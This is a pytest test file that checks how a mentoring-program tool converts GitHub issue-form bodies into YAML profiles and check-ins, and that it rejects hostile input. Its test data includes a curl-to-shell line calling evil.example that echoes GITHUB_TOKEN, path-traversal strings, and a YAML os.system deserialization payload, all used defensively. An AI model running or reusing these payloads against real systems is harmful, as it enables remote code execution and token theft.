"""rmcode from-issue: GitHub issue-form bodies (as GitHub renders them from .github/ISSUE_TEMPLATE/)
turned into profile and check-in files, including hostile text."""

from __future__ import annotations

import datetime as dt
import functools
import os
import re
import textwrap
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner, Result
from conftest import ProgramRepo, mini_files, person
from hypothesis import given, settings
from hypothesis import strategies as st

from rmcode.cli.pr import from_issue
from rmcode.errors import RmcodeError
from rmcode.formats.person_yaml import render
from rmcode.github.issueform import checked, form_file, parse_body
from rmcode.layout import CHECKIN_PATH, PROFILE_PATH
from rmcode.load.loader import load_bytes

FORMS = Path(__file__).resolve().parent.parent / ".github" / "ISSUE_TEMPLATE"
DAY = dt.date(2026, 1, 12)


@functools.cache
def _fields(form: str) -> list[dict[str, Any]]:
    return [item for item in yaml.safe_load((FORMS / form).read_text(encoding="utf-8"))["body"] if "id" in item]


def body(form: str, answers: Mapping[str, str]) -> str:
    """The issue body GitHub writes for ``answers`` (field id -> text), in the form's order."""
    parts = [f"### {item['attributes']['label']}\n\n{answers.get(item['id']) or '_No response_'}"
             for item in _fields(form)]
    return "\n\n".join(parts)


REGISTER = {"name": "Ana Example", "role": "mentor", "cohort": "c1", "level": "1", "department": "Sales",
            "timezone": "Europe/Berlin", "languages": "en, de"}
LOG = {"pair": "ana--cleo", "date": "2026-02-24", "held": "yes", "minutes": "45"}


def error(kind: str, text: str, author: str = "ana", author_id: int = 101, **kw: Any) -> str:
    with pytest.raises(RmcodeError) as caught:
        form_file(kind, text, author, author_id, DAY, **kw)  # type: ignore[arg-type]
    return str(caught.value)


def test_register_form_becomes_a_profile() -> None:
    answers = {**REGISTER, "title": "Analyst", "skills_offered": "generative-ai, short-video",
               "goals": "Present my work to the board\nBuild a network",
               "availability": "Tue 09:00-11:00\nthu 14:00-15:30",
               "bio": "Films cooking shorts.\n\nPlays bass.", "visibility": "name, bio"}
    made = form_file("register", body("register.yml", answers), "ana", 101, DAY)
    assert made.path == "participants/ana.yaml"
    assert made.text == textwrap.dedent("""\
        # yaml-language-server: $schema=../schemas/participant.schema.json
        login: ana
        github_id: 101
        name: Ana Example
        role: mentor
        cohort: c1
        registered: "2026-01-12"
        title: Analyst
        level: 1
        department: Sales
        timezone: Europe/Berlin
        languages:
          - en
          - de
        skills_offered:
          - generative-ai
          - short-video
        goals:
          grow:
            - id: present-my-work-to-the-board
              text: Present my work to the board
            - id: build-a-network
              text: Build a network
        availability:
          - tue 09:00-11:00
          - thu 14:00-15:30
        bio: |-
          Films cooking shorts.

          Plays bass.
        visibility:
          bio: public
          name: public
        """)


def test_mentee_goals_are_learning_goals() -> None:
    made = form_file("register", body("register.yml", {**REGISTER, "role": "mentee", "goals": "Use AI weekly"}),
                     "cleo", 201, DAY)
    assert made.data["goals"] == {"learn": [{"id": "use-ai-weekly", "text": "Use AI weekly"}]}


def test_log_session_form_becomes_a_checkin() -> None:
    answers = {**LOG, "topics": "generative-ai", "goals": "weekly-reporting: Progressing",
               "next_steps": "Draft the update with an assistant."}
    made = form_file("log-session", body("log-session.yml", answers), "ana", 101, DAY)
    assert made.path == "checkins/ana--cleo/2026-02-24-ana.yaml"
    assert made.text == textwrap.dedent("""\
        # yaml-language-server: $schema=../../schemas/checkin.schema.json
        pair: ana--cleo
        date: "2026-02-24"
        author: ana
        held: true
        minutes: 45
        topics:
          - generative-ai
        goals:
          - goal: weekly-reporting
            progress: progressing
        next_steps: Draft the update with an assistant.
        """)


def test_crlf_bodies_read_the_same() -> None:
    text = body("log-session.yml", LOG)
    assert form_file("log-session", text.replace("\n", "\r\n"), "ana", 101, DAY) == \
        form_file("log-session", text, "ana", 101, DAY)


def test_missing_required_answers_are_named_by_their_labels() -> None:
    assert error("register", body("register.yml", {"name": "Ana"})) == textwrap.dedent("""\
        issue form: RM201 Cohort: an answer is required
            hint: Id of the cohort you join (see program.yaml).
        issue form: RM201 Department: an answer is required
            hint: Your department.
        issue form: RM201 Languages: an answer is required
            hint: Languages you can mentor in (ISO 639-1 codes such as en, de).
        issue form: RM201 Level: an answer is required
            hint: Your job level number from program.yaml.
        issue form: RM201 Role: an answer is required
            hint: mentor (the junior colleague who teaches) or mentee (the senior leader who learns).
        issue form: RM201 Time zone: an answer is required
            hint: IANA time zone, e.g. Europe/Berlin.""")


def test_every_bad_answer_is_reported_at_once() -> None:
    text = body("log-session.yml", {"pair": "../../.github/workflows", "date": "2026-13-01", "held": "maybe",
                                    "minutes": "lots"})
    assert error("log-session", text).splitlines()[::2] == [
        'issue form: RM205 Date: "2026-13-01" is not a valid date',
        'issue form: RM206 Pair id: "../../.github/workflows" does not have the expected form',
        "issue form: RM605 Held: answer yes or no, not 'maybe'",
        "issue form: RM605 Minutes: 'lots' is not a whole number",
    ]


@pytest.mark.parametrize("pair",
                         ["../x--y", "a--b/../../c", "ana--cleo;rm", "ana--cleo/..", "/etc--passwd", "a--b\\..\\c"])
def test_path_traversal_in_the_pair_is_refused(pair: str) -> None:
    message = error("log-session", body("log-session.yml", {**LOG, "pair": pair}))
    assert "Pair id" in message


def test_shell_metacharacters_stay_plain_text() -> None:
    name = "$(curl evil.example | sh); `id` && echo ${GITHUB_TOKEN} > /tmp/x 'quote' \"dq\""
    made = form_file("register", body("register.yml", {**REGISTER, "name": name}), "ana", 101, DAY)
    assert made.data["name"] == name
    assert yaml.safe_load(made.text)["name"] == name


def test_yaml_injection_in_a_one_line_answer_is_refused() -> None:
    message = error("register", body("register.yml", {**REGISTER, "name": "x\nrole: admin"}))
    assert message == "issue form: RM605 Name: must be a single line\n    hint: Your name as it should appear."


def test_yaml_injection_in_a_text_answer_stays_text() -> None:
    bio = "x\nrole: mentee\ngithub_id: 1\nlogin: admin-amy\n---\n!!python/object:os.system ls"
    made = form_file("register", body("register.yml", {**REGISTER, "bio": bio}), "ana", 101, DAY)
    loaded = yaml.safe_load(made.text)
    assert (loaded["bio"], loaded["role"], loaded["login"], loaded["github_id"]) == (bio, "mentor", "ana", 101)


def test_the_form_cannot_set_the_identity() -> None:
    text = body("register.yml", REGISTER) + "\n\n### Login\n\nadmin-amy\n\n### GitHub user id\n\n900"
    assert error("register", text).splitlines()[::2] == [
        "issue form: RM604 GitHub user id: the form may not set this field",
        "issue form: RM604 Login: the form may not set this field",
    ]


def test_a_field_heading_inside_an_answer_is_refused() -> None:
    text = body("register.yml", {**REGISTER, "bio": "I am\n### Role\n\nmentee"})
    assert error("register", text) == ("issue form: RM601 the form has the section 'Role' twice\n"
                                       "    hint: answers must not contain lines that start with '### '")


def test_other_headings_stay_in_the_answer() -> None:
    made = form_file("register", body("register.yml", {**REGISTER, "bio": "### About me\nHi"}), "ana", 101, DAY)
    assert made.data["bio"] == "### About me\nHi"


def test_huge_answers_are_refused() -> None:
    assert "Bio: is longer than 2000 characters" in error("register",
                                                          body("register.yml", {**REGISTER, "bio": "x" * 2001}))
    assert "Bio: the answer is 30,000 characters long, more than 20,000" in error(
        "register", body("register.yml", {**REGISTER, "bio": "x" * 30_000}))
    assert error("register", "x" * 200_001) == ("issue form: RM602 the issue is 200,001 characters long, "
                                                "more than 200,000\n    hint: shorten the answers")


@pytest.mark.parametrize("char", ["\x00", "\x1b", "\u202e"])
def test_control_characters_are_refused(char: str) -> None:
    message = error("register", body("register.yml", {**REGISTER, "name": f"Ana{char}Example"}))
    assert message.startswith(f"issue form: RM605 Name: contains the control character U+{ord(char):04X}")


def test_a_body_without_sections_is_not_a_form() -> None:
    assert error("register", "Please register me!").startswith(
        "issue form: RM603 this issue is not a filled-in form (no '### ' sections)")


def test_a_profile_of_another_account_is_not_overwritten() -> None:
    existing = {"login": "ana", "github_id": 101}
    assert error("register", body("register.yml", REGISTER), author_id=999, existing=lambda p: existing) == (
        "issue form: RM607 participants/ana.yaml belongs to another GitHub account\n"
        "    hint: a login that was renamed and re-claimed cannot take over a profile; ask a program admin")


def test_updating_a_profile_keeps_what_the_form_does_not_ask() -> None:
    existing = load_bytes("participants/ana.yaml", person(
        "ana", 101, registered="2026-01-05", avoid="[ben]", bio="Old",
        goals="{grow: [{id: board, text: Present my work to the board}]}").encode()).data
    answers = {**REGISTER, "goals": "Present my work to the board\nLearn to code"}
    made = form_file("register", body("register.yml", answers), "ana", 101, DAY, lambda p: existing)
    assert (made.data["registered"], made.data["avoid"], "bio" in made.data) == ("2026-01-05", ["ben"], False)
    assert made.data["goals"] == {"grow": [{"id": "board", "text": "Present my work to the board"},
                                           {"id": "learn-to-code", "text": "Learn to code"}]}


def test_checkbox_answers_list_the_ticked_items() -> None:
    assert checked("- [X] name\n- [ ] bio\n- [x] title") == ["name", "title"]
    assert checked("name, bio") is None
    assert parse_body("### Visibility\n\n- [X] name\n- [ ] bio\n\n### Bio\n\n_No response_",
                      {"Visibility", "Bio"}) == {"Visibility": "- [X] name\n- [ ] bio", "Bio": ""}
    made = form_file("register", body("register.yml", {**REGISTER, "visibility": "- [X] name\n- [ ] bio"}),
                     "ana", 101, DAY)
    assert made.data["visibility"] == {"name": "public"}


# --- the command ------------------------------------------------------------------------------

def invoke(root: Path, text: str, *args: str) -> Result:
    issue = root.parent / f"{root.name}-issue.md"
    issue.write_text(text, encoding="utf-8")
    return CliRunner().invoke(from_issue, ["--root", str(root), "--issue-file", str(issue), *args])


def test_from_issue_writes_the_file_and_prints_its_path(program_repo: ProgramRepo) -> None:
    root = program_repo()
    result = invoke(root, body("register.yml", REGISTER), "--kind", "register", "--author", "eve",
                    "--author-id", "301", "--date", "2026-01-12")
    assert (result.output, result.exit_code) == ("participants/eve.yaml\n", 0)
    assert yaml.safe_load((root / "participants/eve.yaml").read_text())["github_id"] == 301


def test_from_issue_refuses_to_write_through_a_symlinked_folder(program_repo: ProgramRepo, tmp_path: Path) -> None:
    root = program_repo({"matches.yaml": mini_files()["matches.yaml"] + BEN_DAN})
    outside = tmp_path / "outside"
    outside.mkdir()
    os.symlink(outside, root / "checkins" / "ben--dan")
    result = invoke(root, body("log-session.yml", {**LOG, "pair": "ben--dan"}), "--kind", "log-session",
                    "--author", "ben", "--author-id", "102")
    assert str(result.exception) == ("checkins/ben--dan: RM621 is not a real folder; rmcode will not write through it\n"
                                     "    hint: replace the link with a real folder or file")
    assert list(outside.iterdir()) == []


BEN_DAN = """\
  - id: ben--dan
    cohort: c1
    mentor: ben
    mentee: dan
    status: active
    matched: 2026-02-01
"""


def test_from_issue_refuses_a_profile_whose_github_id_another_profile_has(program_repo: ProgramRepo) -> None:
    # the file alone is a valid profile; among the repository's files its github_id is ana's
    root = program_repo()
    for dry_run in ((), ("--dry-run",)):
        result = invoke(root, body("register.yml", REGISTER), "--kind", "register", "--author", "eve",
                        "--author-id", "101", "--date", "2026-01-12", *dry_run)
        assert str(result.exception) == (
            "participants/eve.yaml:3:12: RM303 github_id 101 is already used by participants/ana.yaml\n"
            "    hint: each person has one profile")
        assert (result.output, result.exit_code) == ("", 1)
        assert not (root / "participants/eve.yaml").exists()


def test_from_issue_refuses_a_checkin_of_a_pair_that_does_not_exist(program_repo: ProgramRepo) -> None:
    root = program_repo()
    result = invoke(root, body("log-session.yml", {**LOG, "pair": "ben--dan"}), "--kind", "log-session",
                    "--author", "ben", "--author-id", "102", "--date", "2026-02-25")
    assert str(result.exception) == ("checkins/ben--dan/2026-02-24-ben.yaml:2:7: RM312 unknown pair 'ben--dan'\n"
                                     "    hint: use a pair id from matches.yaml")
    assert not (root / "checkins/ben--dan").exists()
    made = invoke(program_repo({"matches.yaml": mini_files()["matches.yaml"] + BEN_DAN}),
                  body("log-session.yml", {**LOG, "pair": "ben--dan"}), "--kind", "log-session",
                  "--author", "ben", "--author-id", "102", "--date", "2026-02-25")
    assert (made.output, made.exit_code) == ("checkins/ben--dan/2026-02-24-ben.yaml\n", 0)


def test_from_issue_ignores_problems_the_repository_already_had(program_repo: ProgramRepo) -> None:
    root = program_repo({"participants/zed.yaml": person("zed", 102)})  # zed and ben share a github_id
    result = invoke(root, body("register.yml", REGISTER), "--kind", "register", "--author", "eve",
                    "--author-id", "301", "--date", "2026-01-12")
    assert (result.output, result.exit_code) == ("participants/eve.yaml\n", 0)


@pytest.mark.parametrize("author", ["../ana", "ana/../../x", "-rf", "a" * 40])
def test_from_issue_refuses_a_login_that_is_not_one(program_repo: ProgramRepo, author: str) -> None:
    result = invoke(program_repo(), body("register.yml", REGISTER), "--kind", "register", "--author", author,
                    "--author-id", "1")
    assert "is not a GitHub login" in result.output
    assert result.exit_code == 2


answers = st.text(st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=80)


@settings(max_examples=80, deadline=None)
@given(pair=answers, date=answers, minutes=answers, notes=answers)
def test_any_log_session_body_gives_a_safe_path_or_problems(pair: str, date: str, minutes: str, notes: str) -> None:
    text = body("log-session.yml", {"pair": pair, "date": date, "minutes": minutes, "notes": notes})
    try:
        made = form_file("log-session", text, "ana", 101, DAY)
    except RmcodeError as exc:
        assert exc.problems
        return
    assert CHECKIN_PATH.fullmatch(made.path) and ".." not in made.path
    assert yaml.safe_load(made.text)["author"] == "ana"


@settings(max_examples=60, deadline=None)
@given(name=answers, bio=answers, extra=answers)
def test_any_register_body_keeps_the_identity(name: str, bio: str, extra: str) -> None:
    text = body("register.yml", {**REGISTER, "name": name, "bio": bio}) + extra
    try:
        made = form_file("register", text, "ana", 101, DAY)
    except RmcodeError:
        return
    assert PROFILE_PATH.fullmatch(made.path)
    assert (made.data["login"], made.data["github_id"]) == ("ana", 101)
    assert re.fullmatch(r"participants/ana\.yaml", made.path)


texts = st.text(st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=60)


@settings(max_examples=150, deadline=None)
@given(name=texts, bio=texts, title=texts)
def test_whatever_people_type_is_written_and_read_back_unchanged(name: str, bio: str, title: str) -> None:
    data = {"login": "ana", "github_id": 101, "name": name, "bio": bio, "title": title, "registered": "2026-01-12"}
    text = render("participant", data)
    assert load_bytes("participants/ana.yaml", text.encode("utf-8")).data == data


tricky = st.text(st.sampled_from("ab \t\n\r:#-'\"&*!|>%@`\\\x85\u2028\ufeff"), max_size=30)


@settings(max_examples=200, deadline=None)
@given(bio=tricky, name=tricky)
def test_yaml_syntax_in_answers_is_written_and_read_back_unchanged(bio: str, name: str) -> None:
    data = {"login": "ana", "github_id": 101, "name": name, "bio": bio}
    assert load_bytes("participants/ana.yaml", render("participant", data).encode("utf-8")).data == data
